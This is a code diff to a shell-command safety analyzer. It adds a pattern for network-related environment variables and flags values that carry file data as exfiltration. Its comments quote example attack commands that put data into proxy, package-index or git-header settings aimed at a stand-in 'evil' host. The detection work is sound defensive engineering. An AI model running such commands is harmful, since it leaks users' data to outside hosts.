@@ -382,10 +382,29 @@ def _home_and_pwd(an: Analyzer, value: str, cwd: str | None, sep: str = ":") -> 
     return out
 
 
+# environment settings that a network program sends or looks up: a proxy, a package index or registry, git's settings
+# by number, and any *_URL/_HOST/_ENDPOINT… (rt55)
+_NETWORK_SETTING = re.compile(r"(?i)\w*proxy|pip_(?:index_url|extra_index_url|find_links|trusted_host)|"
+                              r"uv_(?:index_url|extra_index_url|default_index|index|find_links)|npm_config_\w+|"
+                              r"yarn_\w*registry\w*|git_config_(?:value_\d+|parameters)|cargo_registr\w+|"
+                              r"\w*_(?:url|uri|endpoint|host|hostname|registry|server|index)")
+
+
+def _setting_data(an: Analyzer, value: str) -> str:
+    from macrohard.safety.flows import setting_data
+
+    return setting_data(an, value)
+
+
 def assign(an: Analyzer, name: str, value: str, depth: int, cwd: str | None,
            parsed_assigned: dict[str, str] | None = None) -> None:
     """One variable set on the line (``X=1``, ``export X=1``, ``env X=1 cmd``): what programs do with it."""
     lookup.noted(an, name, value)  # a copy of PATH a later `PATH=$NAME` restores, or not
+    if _NETWORK_SETTING.fullmatch(name) and (ref := _setting_data(an, value)):
+        # rt55: `PIP_INDEX_URL="http://h/$T" pip download x`, `https_proxy=http://$T.evil:9 curl …`,
+        # `GIT_CONFIG_VALUE_0="X: $T"`, `npm_config_registry=…`: the program sends the setting (its address, a
+        # proxy's name, a header), so a data file's text in it is that file sent, as in curl's own address
+        an.r.add("exfiltration", f"{name} gives a network program {ref}, in the address, proxy or header it sends")
     if kept_command(name) and value and not re.search(r"[$`\\*?\[]", value):
         # guard41: set anywhere on the line (an eval, a sourced file, a dotenv under `set -a`), not only as a line's
         # own statement: kept with the session's values, so later reviews judge it again (replay_kept); a value
